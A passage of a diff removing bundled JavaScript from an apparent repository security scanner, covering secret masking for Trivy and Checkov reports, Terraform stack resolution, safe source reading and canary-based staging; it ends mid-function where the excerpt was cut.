-function snippetOf(lines, region, mask, maxLines = 6) {
-    const end = Math.min(region.endLine, region.startLine + maxLines - 1);
-    const text = mask(lines.slice(region.startLine - 1, end).join('\n'));
-    if (text.length <= region_longestLine)
-        return text;
-    return text
-        .split('\n')
-        .map((line) => (line.length > region_longestLine ? `${line.slice(0, region_longestLine)}…` : line))
-        .join('\n');
-}
-/** sha256 of the lines without their indentation and trailing blanks: moving or re-indenting a block changes nothing. */
-const region_digestOf = (lines, startLine, endLine) => sha256Hex(lines
-    .slice(startLine - 1, endLine)
-    .map((line) => line.trim())
-    .join('\n'));
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-stacks.js
-
-/** The folder of a path, `.` for the root. */
-const terraform_stacks_folderOf = (path) => {
-    const slash = path.lastIndexOf('/');
-    return slash < 0 ? '.' : path.slice(0, slash);
-};
-/** Follows a local source (`./x`, `../y`) from a folder; `undefined` when it is not local or leaves the root. */
-function followSource(folder, source) {
-    if (!/^\.\.?(?:\/|$)/.test(source))
-        return undefined;
-    const steps = [...(folder === '.' ? [] : folder.split('/')), ...source.split('/')];
-    const result = [];
-    for (const step of steps) {
-        if (step === '' || step === '.')
-            continue;
-        if (step !== '..')
-            result.push(step);
-        else if (result.pop() === undefined)
-            return undefined;
-    }
-    return result.length === 0 ? '.' : result.join('/');
-}
-/** `module.a["x"].module.b` -> `['a', 'b']`. */
-const moduleNames = (modulePath) => [...modulePath.matchAll(/module\.([\w-]+)(?:\["(?:[^"\\]|\\.)*"\]|\[\d+\])?/g)].map((match) => match[1] ?? '');
-const maximumSteps = 10_000;
-/**
- * The root module directory that a resource belongs to: from the file's folder up through the calls named in its module path.
- * The tool's own outermost call decides where it gives one; else the calls in the files do, the first by name if several could.
- */
-function stackOf(path, modulePath, outermostCall, calls) {
-    if (modulePath === undefined)
-        return terraform_stacks_folderOf(path);
-    if (outermostCall !== undefined)
-        return terraform_stacks_folderOf(outermostCall);
-    let folders = new Set([terraform_stacks_folderOf(path)]);
-    let steps = 0;
-    for (const name of moduleNames(modulePath).reverse()) {
-        const callers = calls
-            .filter((call) => call.name === name && folders.has(call.target))
-            .map((call) => terraform_stacks_folderOf(call.path));
-        steps += calls.length;
-        if (callers.length === 0 || steps > maximumSteps * Math.max(1, calls.length))
-            break;
-        folders = new Set(callers);
-    }
-    return [...folders].sort(order_compareText)[0] ?? terraform_stacks_folderOf(path);
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/mask.js
-
-const stars = '****';
-/** Shorter words occur by chance: starring them would hide nothing and spoil everything. */
-const shortestSecret = 6;
-const shortestEncoded = 8;
-/** A secret as long as a file is not looked for in other clothes. */
-const longestEncoded = 10_000;
-/** A longer secret is looked for in pieces of this length, so that each comparison is bounded. */
-const longestPiece = 256;
-/** With more secrets that begin alike, whatever begins so is taken for one. */
-const mostAlike = 16;
-/**
- * A mask for these secrets of at least 6 characters, and from 8 characters on for what they look like in JSON, in a URL and in base64.
- * Time is linear in the text, whatever the number of secrets: at each place one look-up of six characters, and at most
- * 16 comparisons of 256 characters where it hits. Where it cannot be exact it hides more, never less.
- */
-function createMask(secrets) {
-    const byStart = groupByStart(allForms(secrets));
-    if (byStart.size === 0)
-        return credentials/* hideCredentials */.R;
-    const firstCodes = new Set([...byStart.keys()].map((start) => start.charCodeAt(0)));
-    return (text) => (0,credentials/* hideCredentials */.R)(star(text, byStart, firstCodes));
-}
-function groupByStart(forms) {
-    const groups = new Map();
-    for (const form of forms) {
-        const start = form.slice(0, shortestSecret);
-        const group = groups.get(start);
-        if (group === undefined)
-            groups.set(start, [form]);
-        else
-            group.push(form);
-    }
-    for (const group of groups.values())
-        group.sort((a, b) => b.length - a.length);
-    return groups;
-}
-function star(text, byStart, firstCodes) {
-    const parts = [];
-    let [done, hidden] = [0, 0];
-    for (let at = 0; at + shortestSecret <= text.length; at += 1) {
-        const alike = firstCodes.has(text.charCodeAt(at)) ? byStart.get(text.slice(at, at + shortestSecret)) : undefined;
-        if (alike === undefined)
-            continue;
-        const end = endOfSecret(text, at, alike, hidden);
-        if (end <= Math.max(at, hidden))
-            continue;
-        if (at > hidden || parts.length === 0)
-            parts.push(text.slice(done, at), stars);
-        hidden = end;
-        done = end;
-    }
-    return parts.length === 0 ? text : parts.join('') + text.slice(done);
-}
-/** Where a secret that begins at `at` ends; not beyond `at` when none does. What ends before `hidden` is hidden already. */
-function endOfSecret(text, at, alike, hidden) {
-    if (alike.length > mostAlike)
-        return endOfWord(text, Math.max(at + shortestSecret, hidden));
-    const found = alike.find((secret) => text.startsWith(secret, at));
-    return found === undefined ? at : at + found.length;
-}
-const wordEnd = /[\s"']/g;
-function endOfWord(text, from) {
-    wordEnd.lastIndex = from;
-    return wordEnd.exec(text)?.index ?? text.length;
-}
-function allForms(secrets) {
-    const forms = new Set();
-    for (const secret of new Set(secrets)) {
-        if (secret.length < shortestSecret)
-            continue;
-        for (const form of formsOf(secret))
-            for (const piece of mask_piecesOf(form))
-                forms.add(piece);
-    }
-    return forms;
-}
-/** What a secret looks like in other clothes. */
-function formsOf(secret) {
-    if (secret.length < shortestEncoded || secret.length > longestEncoded)
-        return [secret];
-    const bytes = new TextEncoder().encode(secret);
-    const encoded = [0, 1, 2].map((shift) => base64Middle(bytes, shift)).filter((form) => form.length >= shortestSecret);
-    return [
-        secret,
-        JSON.stringify(secret).slice(1, -1),
-        urlEncoded(secret),
-        ...encoded,
-        ...encoded.map((form) => form.replaceAll('+', '-').replaceAll('/', '_')),
-    ];
-}
-/** A lone surrogate cannot be encoded; it is no secret then. */
-function urlEncoded(secret) {
-    try {
-        return encodeURIComponent(secret);
-    }
-    catch {
-        return secret;
-    }
-}
-/** The part of the base64 of a longer text that depends on these bytes alone, when `shift` other bytes stand before them. */
-function base64Middle(bytes, shift) {
-    const padded = new Uint8Array(shift + bytes.length);
-    padded.set(bytes, shift);
-    const text = btoa(Array.from(padded, (byte) => String.fromCharCode(byte)).join(''));
-    const from = Math.ceil((shift * 8) / 6);
-    const to = Math.floor((padded.length * 8) / 6);
-    return text.slice(from, to);
-}
-function mask_piecesOf(form) {
-    if (form.length <= longestPiece)
-        return [form];
-    const count = Math.ceil(form.length / longestPiece);
-    const size = Math.ceil(form.length / count);
-    return Array.from({ length: count }, (_, index) => form.slice(index * size, (index + 1) * size)).filter((piece) => piece.length >= shortestSecret);
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/secret-span.js
-/** Longer hints are not compared: no tool shows so much of a line. */
-const secret_span_longestHint = 20_000;
-const mostPlaces = 1000;
-/**
- * Where the secret is in a line, from what a tool shows of it. Trivy shows the line, or a window of it, with each secret starred in its
- * own length (`Match`, 0.74.0); Checkov shows the line with each secret cut to its first 5 or 6 characters and ten stars (3.3.30). Where
- * the hint does not fit: all after the first `=` or `:`, else the whole line. Sorted, not overlapping.
- */
-function findSecretSpans(line, hint) {
-    // A window is cut by bytes: half a character at its ends is none of the line's.
-    const shown = (hint ?? '').replace(/\r?\n$/, '').replace(/^\uFFFD{1,4}|\uFFFD{1,4}$/g, '');
-    const isUsable = shown.includes('*') && shown.length <= secret_span_longestHint;
-    if (isUsable) {
-        const spans = isCut(shown) ? cutSpans(line, shown) : (equalSpans(line, shown) ?? cutSpans(line, shown));
-        if (spans !== undefined)
-            return spans;
-    }
-    return [valueSpan(line)];
-}
-/** The line with every span replaced by four stars, so that neither the secret nor its length is left. */
-function starLine(line, spans) {
-    let [result, done] = ['', 0];
-    for (const { start, end } of [...spans].sort((a, b) => a.start - b.start)) {
-        if (end <= done)
-            continue;
-        result += start >= done ? `${line.slice(done, start)}****` : '';
-        done = end;
-    }
-    return result + line.slice(done);
-}
-/** Checkov's way: ten stars right after a character of the secret. */
-const isCut = (shown) => /[^\s*"'`=:,;()[\]{}<>]\*{10}(?!\*)/.test(shown);
-/** Trivy's way: the hint and a window of the line agree, but for the stars. */
-function equalSpans(line, shown) {
-    for (const offset of windows(line, shown)) {
-        if (!agrees(line, shown, offset))
-            continue;
-        const spans = starRuns(shown)
-            .map(({ start, end }) => ({ start: start + offset, end: end + offset }))
-            .filter(({ start, end }) => !/^\**$/.test(line.slice(start, end)));
-        if (spans.length > 0)
-            return spans;
-    }
-    return undefined;
-}
-/** Where the hint could begin: wherever its longest plain piece occurs. */
-function windows(line, shown) {
-    if (shown.length === line.length)
-        return [0];
-    const plain = plainPieces(shown);
-    const anchor = plain.reduce((best, piece) => (piece.text.length > best.text.length ? piece : best), {
-        text: '',
-        start: 0,
-    });
-    if (anchor.text === '')
-        return [];
-    const found = [];
-    for (let at = line.indexOf(anchor.text); at >= 0 && found.length < mostPlaces; at = line.indexOf(anchor.text, at + 1)) {
-        found.push(at - anchor.start);
-    }
-    return found.filter((offset) => isWindow(line, shown, offset));
-}
-/** Trivy cuts lines of more than a hundred characters, and no secret: one at the edge of a window is at the edge of the line. */
-const isWindow = (line, shown, offset) => {
-    const end = offset + shown.length;
-    if (line.length <= 100 || offset < 0 || end > line.length)
-        return false;
-    return (offset === 0 || !shown.startsWith('*')) && (end === line.length || !shown.endsWith('*'));
-};
-function agrees(line, shown, offset) {
-    for (let at = 0; at < shown.length; at += 1) {
-        if (shown[at] !== '*' && shown[at] !== line[at + offset])
-            return false;
-    }
-    return true;
-}
-const starRuns = (shown) => [...shown.matchAll(/\*{3,}/g)].map((match) => ({ start: match.index, end: match.index + match[0].length }));
-const plainPieces = (shown) => [...shown.matchAll(/[^*]+/g)].map((match) => ({ text: match[0], start: match.index }));
-/** Finds the plain pieces one after the other; what lies between them is secret, with the characters shown of it. */
-function cutSpans(line, shown) {
-    const pieces = shown.split(/\*{3,}/);
-    const spans = [];
-    let from = 0;
-    for (const [index, piece] of pieces.slice(0, -1).entries()) {
-        const at = line.indexOf(piece, from);
-        if (at < 0 || (piece === '' && index === 0))
-            return undefined;
-        const span = spanBetween(line, at, at + piece.length, pieces[index + 1] ?? '');
-        if (span === undefined)
-            return undefined;
-        spans.push(span);
-        from = span.end;
-    }
-    return spans.length === 0 ? undefined : spans;
-}
-/** A secret whose hidden part begins at `hidden`, behind a plain piece at `at`, and after which the hint goes on with `next`. */
-function spanBetween(line, at, hidden, next) {
-    const isWholeLine = at === 0;
-    const known = next === ''
-        ? isWholeLine
-            ? line.length
-            : -1
-        : line.endsWith(next)
-            ? line.length - next.length
-            : line.indexOf(next, hidden + 1);
-    if (known > hidden)
-        return { start: startOfSecret(line, at, hidden, known), end: known };
-    const start = hidden - at <= mostShown ? at : backToDelimiter(line, at, hidden);
-    const end = secret_span_endOfValue(line, start, hidden);
-    return end > start ? { start, end } : undefined;
-}
-/** Checkov shows a quarter of a secret, at most six characters. */
-const mostShown = 6;
-const delimiter = /[\s"'`=:,;()[\]{}<>]/;
-/** Knowing the length of the hidden part, there is one number of shown characters that fits, or two: then the one after a delimiter, else the larger. */
-function startOfSecret(line, at, hidden, end) {
-    const fitting = [6, 5, 4, 3, 2, 1].filter((shown) => shown === Math.min(Math.floor((end - hidden + shown) / 4), mostShown));
-    const starts = fitting.map((shown) => hidden - shown).filter((start) => start >= at);
-    return starts.find((start) => isBoundary(line, start)) ?? starts[0] ?? backToDelimiter(line, at, hidden);
-}
-const isBoundary = (line, start) => !/[\s"'`]/.test(line[start] ?? '') && (start === 0 || delimiter.test(line[start - 1] ?? ''));
-function backToDelimiter(line, at, hidden) {
-    let start = hidden;
-    while (start > at && hidden - start < mostShown && !delimiter.test(line[start - 1] ?? ' '))
-        start -= 1;
-    return start;
-}
-/** To the closing quote if the value began after a quote, else to white space, comma or semicolon. */
-function secret_span_endOfValue(line, start, hidden) {
-    const quote = line[start - 1] ?? '';
-    const closing = /["'`]/.test(quote) ? line.indexOf(quote, hidden) : -1;
-    if (closing >= 0)
-        return closing;
-    const end = line.slice(hidden).search(/[\s,;]/);
-    return end < 0 ? line.length : hidden + end;
-}
-/** All after the first `=` or `:`, without blanks and quotes around it; the whole line where there is neither, or where base64 ends in `=`. */
-function valueSpan(line) {
-    const whole = { start: line.length - line.trimStart().length, end: line.trimEnd().length };
-    const sign = line.search(/[=:]/);
-    const raw = line.slice(sign + 1);
-    const value = raw.trim().replace(/[,;]$/, '');
-    if (/^=*$/.test(value))
-        return whole;
-    const inner = /^(["'])(.+)\1$/.exec(value)?.[2];
-    const start = sign + 1 + raw.length - raw.trimStart().length + (inner === undefined ? 0 : 1);
-    return { start, end: start + (inner ?? value).length };
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/secrets.js
-
-
-
-/** Finds every secret of the run again in the files, so that it can be masked everywhere and is told once however many tools saw it. */
-function findSecrets(all, sources) {
-    const sightings = all.filter((reported) => reported.kind === 'secret' && reported.startLine !== undefined);
-    const byPath = groupBy(sightings, (reported) => reported.path);
-    const found = [...byPath].map(([path, group]) => findInFile(sources.file(path)?.lines ?? [], group));
-    const spans = new Map(found.flatMap((file) => [...file.spans]));
-    return { mask: createMask(found.flatMap((file) => file.secrets)), spanOf: (reported) => spans.get(reported) };
-}
-function findInFile(lines, group) {
-    const sightings = group.flatMap((reported) => sightingOf(lines, reported) ?? []);
-    const byLine = [...groupBy(sightings, ({ line }) => String(line)).values()].sort(([a], [b]) => (a?.line ?? 0) - (b?.line ?? 0));
-    const spans = new Map();
-    const counts = new Map();
-    for (const same of byLine) {
-        const united = unite(same.flatMap((sighting) => sighting.spans));
-        const starredLine = starLine(lines[(same[0]?.line ?? 1) - 1] ?? '', united).trim();
-        const before = counts.get(starredLine) ?? 0;
-        counts.set(starredLine, before + united.length);
-        for (const sighting of same) {
-            const index = united.findIndex((span) => sighting.spans.some((own) => own.start < span.end && span.start < own.end));
-            const span = united[index];
-            if (span !== undefined)
-                spans.set(sighting.reported, { region: regionOf(sighting, span, lines), starredLine, ordinal: before + index });
-        }
-    }
-    return { secrets: sightings.flatMap((sighting) => textsOf(lines, sighting)), spans };
-}
-function sightingOf(lines, reported) {
-    const line = reported.startLine ?? 0;
-    const text = lines[line - 1];
-    if (text === undefined)
-        return undefined;
-    const endLine = Math.min(reported.endLine ?? line, lines.length);
-    const spans = endLine > line && reported.secretHint === undefined
-        ? [{ start: 0, end: text.length }]
-        : findSecretSpans(text, reported.secretHint);
-    return { reported, line, endLine, spans };
-}
-/** Overlapping spans become one; sorted by start. */
-function unite(spans) {
-    const result = [];
-    for (const span of [...spans].sort((a, b) => a.start - b.start || a.end - b.end)) {
-        const last = result.at(-1);
-        if (last !== undefined && span.start < last.end)
-            result.splice(-1, 1, { start: last.start, end: Math.max(last.end, span.end) });
-        else
-            result.push(span);
-    }
-    return result;
-}
-const regionOf = ({ line, endLine }, span, lines) => endLine > line
-    ? { startLine: line, endLine, startColumn: 1, endColumn: (lines[endLine - 1]?.length ?? 0) + 1 }
-    : { startLine: line, endLine: line, startColumn: span.start + 1, endColumn: span.end + 1 };
-/** The secret itself, to be masked: its span, and each whole line of a secret that runs over several. */
-function textsOf(lines, { line, endLine, spans }) {
-    const text = lines[line - 1] ?? '';
-    const own = spans.map((span) => text.slice(span.start, span.end));
-    return endLine > line ? [...own, ...lines.slice(line - 1, endLine).map((part) => part.trim())] : own;
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/place-findings.js
-
-
-
-
-
-
-/**
- * Turns what the tools said into findings: reads the files, which are the authority for subject, block, columns and snippet, and
- * masks every secret of the whole run in every text that leaves (DESIGN 3, "locate"). One finding for each report, none lost.
- */
-async function placeFindings(runs, tree) {
-    const { sources, skips } = tree;
-    const all = runs.flatMap(({ reported }) => reported);
-    const terraform = all.some(({ modulePath }) => modulePath !== undefined) ? tree.terraform : [];
-    await sources.read([...all.map(({ path }) => path), ...terraform]);
-    const around = { sources, calls: sources.callsIn(terraform), secrets: findSecrets(all, sources), skips };
-    return {
-        runs: runs.map(({ scanner, tool, reported }) => ({
-            scanner,
-            findings: reported.map((report) => placeOne(report, tool, around)).sort(compareFindings),
-        })),
-        mask: around.secrets.mask,
-    };
-}
-function placeOne(said, tool, { sources, calls, secrets, skips }) {
-    const file = sources.file(said.path);
-    const reported = file === undefined ? said : withRealLines(said, file, sources);
-    const found = file === undefined ? undefined : find(reported, file, sources);
-    const secret = reported.kind === 'secret' ? secrets.spanOf(said) : undefined;
-    const subject = subjectOf(reported, found, calls, secrets.mask);
-    const identity = identify({
-        kind: reported.kind,
-        format: reported.format,
-        ruleId: reported.ruleId,
-        path: reported.path,
-        subject,
-        ...(reported.concept === undefined ? {} : { concept: reported.concept }),
-        ...(reported.advisory === undefined ? {} : { advisory: reported.advisory }),
-        ...(secret === undefined ? {} : { secret: { line: secret.starredLine, ordinal: secret.ordinal } }),
-    });
-    const skip = skips.skipFor(reported, tool, found?.spans ?? [], file?.lines ?? []);
-    return {
-        kind: reported.kind,
-        rule: ruleOf(reported, secrets.mask),
-        severity: reported.severity ?? 'medium',
-        severitySource: reported.severitySource,
-        message: secrets.mask(reported.message),
-        place: place_findings_placeOf(reported, file, found, secret, secrets.mask),
-        subject,
-        ...(reported.advisory === undefined ? {} : { advisory: reported.advisory }),
-        identity,
-        sources: [sourceOf(reported, tool, skip, secrets.mask)],
-    };
-}
-function withRealLines(reported, file, sources) {
-    if (reported.linesOmitSeparators !== true || reported.startLine === undefined)
-        return reported;
-    const startLine = sources.lineCounted(file, reported.startLine);
-    const endLine = sources.lineCounted(file, reported.endLine ?? reported.startLine);
-    return { ...reported, startLine, endLine };
-}
-const sourceOf = (reported, tool, skip, mask) => ({
-    tool,
-    ruleId: reported.ruleId,
-    ...(reported.severity === undefined ? {} : { severity: reported.severity }),
-    severitySource: reported.severitySource,
-    ...(skip === undefined ? {} : { skip: skip.reason === undefined ? skip : { ...skip, reason: mask(skip.reason) } }),
-});
-const ruleOf = (reported, mask) => ({
-    id: reported.concept ?? reported.ruleId,
-    ...(reported.concept === undefined ? {} : { concept: reported.concept }),
-    title: mask(reported.title),
-    ...(reported.help === undefined ? {} : { help: mask(reported.help) }),
-    ...(reported.url === undefined ? {} : { url: reported.url }),
-    tags: reported.tags,
-});
-const isAboutBlocks = (reported) => reported.kind === 'misconfiguration';
-function find(reported, file, sources) {
-    if (!isAboutBlocks(reported))
-        return undefined;
-    const outline = sources.outline(file, reported.format);
-    if (reported.startLine === undefined) {
-        const named = reported.resourceHint === undefined ? undefined : findByAddress(outline, reported.resourceHint);
-        return named ?? (reported.format === 'helm' ? findOnly(outline) : undefined);
-    }
-    return findSpan(outline, reported.startLine, reported.endLine ?? reported.startLine);
-}
-/** Where an address is unique: in the chart, in the folder of manifests, else in the file. */
-function stackFor(format, path) {
-    if (format === 'helm')
-        return chartOf(path);
-    return format === 'kubernetes' || format === 'kustomize' ? terraform_stacks_folderOf(path) : path;
-}
-/** `charts/shop` of `charts/shop/templates/web/deployment.yaml`: templates move within a chart without being others. */
-function chartOf(path) {
-    const end = `/${path}`.lastIndexOf('/templates/');
-    return end < 0 ? terraform_stacks_folderOf(path) : path.slice(0, Math.max(0, end - 1)) || '.';
-}
-function subjectOf(reported, found, stackCalls, mask) {
-    const { package: dependency, license } = reported;
-    if (!isAboutBlocks(reported)) {
-        return {
-            ...(dependency === undefined ? {} : { package: packageOf(dependency) }),
-            ...(license === undefined ? {} : { license }),
-        };
-    }
-    const { format, path } = reported;
-    if (found?.subject === undefined)
-        return { resource: { format, type: format, stack: path, address: '' } };
-    const { type, part } = found.subject;
-    const [address, stack] = isTerraform(format)
-        ? terraformAddress(reported, found.subject.address, stackCalls)
-        : [found.subject.address, stackFor(format, path)];
-    const resource = {
-        format,
-        type,
-        stack,
-        address: mask(address),
-        ...(part === undefined ? {} : { part: mask(part) }),
-    };
-    return { resource };
-}
-const packageOf = ({ path: _path, ...dependency }) => dependency;
-const isTerraform = (format) => format === 'terraform';
-function terraformAddress(reported, address, stackCalls) {
-    const outermost = reported.calls.at(-1)?.path;
-    const full = `${reported.modulePath === undefined ? '' : `${reported.modulePath}.`}${address}${reported.instanceKey ?? ''}`;
-    return [full, stackOf(reported.path, reported.modulePath, outermost, stackCalls)];
-}
-function place_findings_placeOf(reported, file, found, secret, mask) {
-    const related = reported.calls.map((call) => ({
-        path: call.path,
-        ...(call.startLine === undefined
-            ? {}
-            : { region: { startLine: call.startLine, endLine: call.endLine ?? call.startLine } }),
-        label: 'module call',
-    }));
-    const region = place_findings_regionOf(reported, file, found, secret);
-    if (file === undefined || region === undefined)
-        return { path: reported.path, ...(region === undefined ? {} : { region }), related };
-    const block = found === undefined ? undefined : blockOf(file, found, mask);
-    return {
-        path: reported.path,
-        region,
-        snippet: snippetOf(file.lines, region, mask),
-        ...(block === undefined ? {} : { block }),
-        related,
-    };
-}
-function place_findings_regionOf(reported, file, found, secret) {
-    if (secret !== undefined)
-        return secret.region;
-    const lines = reported.startLine !== undefined
-        ? { startLine: reported.startLine, endLine: reported.endLine ?? reported.startLine }
-        : found?.block;
-    if (lines === undefined)
-        return undefined;
-    if (file === undefined)
-        return { startLine: lines.startLine, endLine: lines.endLine };
-    const { startLine, endLine } = clipRegion(lines, file.lines.length);
-    return narrowRegion(file.lines, startLine, endLine);
-}
-const blockOf = (file, found, mask) => ({
-    label: mask(found.block.label),
-    startLine: found.block.startLine,
-    endLine: found.block.endLine,
-    digest: region_digestOf(file.lines, found.block.startLine, found.block.endLine),
-});
-
-;// CONCATENATED MODULE: ./build/js/repository/concurrently.js
-/** Runs `work` over all items, at most `limit` at a time; results keep the order of the items. */
-async function mapConcurrently(items, limit, work) {
-    const results = [];
-    const queue = items.entries();
-    const drain = async () => {
-        for (const [index, item] of queue)
-            results.push({ index, value: await work(item) });
-    };
-    await Promise.all(Array.from({ length: Math.min(limit, items.length) }, drain));
-    return results.sort((a, b) => a.index - b.index).map(({ value }) => value);
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/sources.js
-
-
-
-
-
-
-/** A larger file is not outlined: its findings keep their lines and are identified by the file. */
-const readableBytes = 16 * 1024 * 1024;
-const atOnce = 16;
-function openSources(root, files) {
-    const reading = new Map();
-    const byPath = new Map();
-    const outlines = new Map();
-    const lineMaps = new Map();
-    const readOnce = (path) => {
-        const already = reading.get(path);
-        if (already !== undefined)
-            return already;
-        const now = readSource(root, path, files).then((file) => {
-            if (file !== undefined)
-                byPath.set(path, file);
-        });
-        reading.set(path, now);
-        return now;
-    };
-    return {
-        read: async (paths) => {
-            await mapConcurrently([...new Set(paths)].filter(isInside).sort(), atOnce, readOnce);
-        },
-        file: (path) => byPath.get(path),
-        outline(file, format) {
-            const key = `${format}\u001f${file.path}`;
-            const outline = outlines.get(key) ?? outlineOf(format, file.text, file.path);
-            outlines.set(key, outline);
-            return outline;
-        },
-        lineCounted(file, counted) {
-            const lineMap = lineMaps.get(file.path) ?? createLineMap(file.text);
-            lineMaps.set(file.path, lineMap);
-            return lineMap(counted);
-        },
-        callsIn: (paths) => paths.flatMap((path) => sources_callsOf(byPath.get(path))),
-    };
-}
-/** Reads and outlines what these reports are about while other scanners still run, file by file, so that whatever else happens gets its turn. */
-async function prepareSources(sources, reports) {
-    const wanted = groupBy(reports.filter(({ kind }) => kind === 'misconfiguration'), ({ path }) => path);
-    for (const [path, group] of wanted) {
-        await sources.read([path]);
-        const file = sources.file(path);
-        if (file === undefined)
-            continue;
-        for (const format of new Set(group.map((report) => report.format)))
-            sources.outline(file, format);
-    }
-}
-/** A path that a tool reports is somebody else's text: it must not lead out of the root. */
-const isInside = (path) => path !== '' && !path.startsWith('/') && !path.split('/').includes('..');
-async function readSource(root, path, files) {
-    const stat = await files.stat(`${root}/${path}`).catch(() => undefined);
-    if (stat?.type !== 'file' || stat.size > readableBytes)
-        return undefined;
-    const text = await files.readText(`${root}/${path}`).catch(() => undefined);
-    return text === undefined ? undefined : { path, text, lines: linesOf(text) };
-}
-function sources_callsOf(file) {
-    if (file === undefined)
-        return [];
-    return moduleCalls(file.text, file.path).flatMap(({ name, source }) => {
-        const target = followSource(terraform_stacks_folderOf(file.path), source);
-        return target === undefined ? [] : [{ name, path: file.path, target }];
-    });
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/stage.js
-
-
-
-
-
-
-const stage_atOnce = 32;
-/** Where one canary's files are, relative to the root. */
-const canaryPath = (folder, scanner, format) => `${folder}/${scanner.replace('/', '-')}/${format}`;
-/** DESIGN 3, "stage". The caller removes the folder. */
-async function buildStage(inventory, options, files) {
-    const isConfig = picomatch([...options.ownConfig], { dot: true });
-    const staged = inventory.files.filter((file) => !isConfig(file.path));
-    const config = inventory.files.filter((file) => isConfig(file.path));
-    await makeFolders(options.root, staged, files);
-    const results = await mapConcurrently(staged, stage_atOnce, (file) => tryPlace(inventory.root, file, options, files));
-    const placed = results.flatMap((result) => ('digest' in result ? [result] : []));
-    const lost = results.flatMap((result) => ('digest' in result ? [] : [result]));
-    const canaryFolder = freeFolder(inventory.files);
-    const planted = await plant(options.root, canaryFolder, options.canaries, files);
-    const stamps = await stampsOf(options.root, files);
-    return {
-        root: options.root,
-        canaryFolder,
-        files: placed,
-        paths: new Set([...placed.map(({ path }) => path), ...planted]),
-        gaps: [...config.map(({ path }) => ({ path, reason: 'own-config-ignored' })), ...lost],
-        changed: () => findChanged(options.root, placed, stamps, files),
-    };
-}
-/** In place of a stage that could not be built: what it was to hold, with nothing in it. */
-const unbuiltStage = (inventory) => ({
-    root: '',
-    canaryFolder: freeFolder(inventory.files),
-    files: inventory.files,
-    paths: new Set(),
-    gaps: [],
-    changed: async () => [],
-});
-async function makeFolders(root, staged, files) {
-    const folders = new Set(staged.map(({ path }) => path.slice(0, Math.max(0, path.lastIndexOf('/')))));
-    await files.makeDirectory(root);
-    await mapConcurrently([...folders].sort(order_compareText), stage_atOnce, (folder) => files.makeDirectory(`${root}/${folder}`));
-}
-/** A file that went away since it was listed, or was closed, is a gap; that nothing can be written is trouble. */
-async function tryPlace(from, file, options, files) {
-    try {
-        return await stage_place(from, file, options, files);
-    }
-    catch (error) {
-        if (error instanceof errors/* GatehouseError */.GA)
-            throw error;
-        const isThere = await files.stat(`${from}/${file.path}`).catch(() => 'closed');
-        return { path: file.path, reason: isThere === undefined ? 'changed-while-scanning' : 'unreadable' };
-    }
-}
-async function stage_place(from, file, options, files) {
-    const target = `${options.root}/${file.path}`;
-    const rules = options.skipRules.filter((rule) => rule.neutralise);
-    const asked = file.skips.some((skip) => rules.some((rule) => rule.tool === skip.tool));
-    if (!asked) {
-        await files.linkOrCopy(`${from}/${file.path}`, target);
-        return file;
-    }
-    const original = Buffer.from(await files.read(`${from}/${file.path}`)).toString('latin1');
-    const bytes = Buffer.from(neutralise(original, rules), 'latin1');
-    await files.write(target, bytes);
-    return { ...file, digest: sha256Hex(bytes) };
-}
-/** Size and times of everything in the stage, by path. */
-async function stampsOf(root, files) {
-    return new Map((await files.survey(root)).map((file) => [file.path, file]));
-}
-async function findChanged(root, placed, before, files) {
-    const now = await stampsOf(root, files).catch(() => new Map()); // Not even the folder is left.
-    const isChanged = await mapConcurrently(placed, stage_atOnce, async ({ path, digest }) => {
-        const [was, is] = [before.get(path), now.get(path)];
-        if (was === undefined || is === undefined)
-            return true;
-        if (is.type !== 'file' || is.size !== was.size || is.mtimeMs !== was.mtimeMs)
-            return true;
-        // Another scan that links the same file moves its ctime too.
-        return is.ctimeMs !== was.ctimeMs && (await files.sha256(`${root}/${path}`).catch(() => 'unreadable')) !== digest;
-    });
-    return placed.filter((_, index) => isChanged[index] === true).map(({ path }) => path);
-}
-/** A repository may have a folder of that name itself, and must not hide its findings behind it. */
-function freeFolder(files) {
-    const taken = new Set(files.map(({ path }) => path.split('/')[0]?.toLowerCase()));
-    for (let number = 0; number <= taken.size; number += 1) {
-        const name = number === 0 ? 'gatehouse-canary' : `gatehouse-canary-${number}`;
-        if (!taken.has(name))
-            return name;
-    }
-    throw new errors/* GatehouseError */.GA('INTERNAL', 'No free name for the canary folder was found.');
-}
-async function plant(root, folder, canaries, files) {
-    const planted = canaries.flatMap(({ scanner, format, files: contents }) => Object.entries(contents).map(([name, content]) => ({
-        path: `${canaryPath(folder, scanner, format)}/${name}`,
-        content,
-    })));
-    for (const { path, content } of planted)
-        await files.write(`${root}/${path}`, content);
-    return planted.map(({ path }) => path);
-}
-/** `inputs.tree` of DESIGN 5: what was given, whatever the order in which it was listed. */
-const digestTree = (files) => `sha256:${sha256Hex([...files]
-    .sort((a, b) => order_compareText(a.path, b.path))
-    .map(({ path, digest }) => `${path}\u001f${digest}`)
-    .join('\n'))}`;
-
-;// CONCATENATED MODULE: ./build/js/flow/run/hidden.js
-
-/** What holds credentials on a runner and on a laptop: the home folder, the checkout with its git configuration, the runner's own files. */
-const variables = ['HOME', 'GITHUB_WORKSPACE', 'RUNNER_TEMP'];
-/** Tools are given a stage; neither the folder it was made from nor these have anything for them. */
-const hiddenFrom = (root, environment) => sortedUnique([root, ...variables.map((name) => environment[name] ?? '')].filter((path) => path.startsWith('/')));
-
-;// CONCATENATED MODULE: ./build/js/flow/run/reading.js
-/** One run that ended well, perhaps with a reservation. */
-const readingOf = ({ parsed, durationMs }) => ({
-    parsed: [parsed],
-    problems: parsed.problems,
-    gaps: [],
-    unread: [],
-    durationMs,
-});
-/** A run that brought nothing. */
-const failedReading = ({ problem, durationMs }, formats) => ({
-    parsed: [],
-    problems: [problem],
-    gaps: [],
-    unread: formats,
-    durationMs,
-});
-/** Several runs as one; a problem that repeats is told once. */
-const uniteReadings = (parts) => ({
-    parsed: parts.flatMap((part) => part.parsed),
-    problems: withoutRepeats(parts.flatMap((part) => part.problems)),
-    gaps: parts.flatMap((part) => part.gaps),
-    unread: parts.flatMap((part) => part.unread),
-    durationMs: parts.reduce((sum, part) => sum + part.durationMs, 0),
-});
-const withoutRepeats = (problems) => [
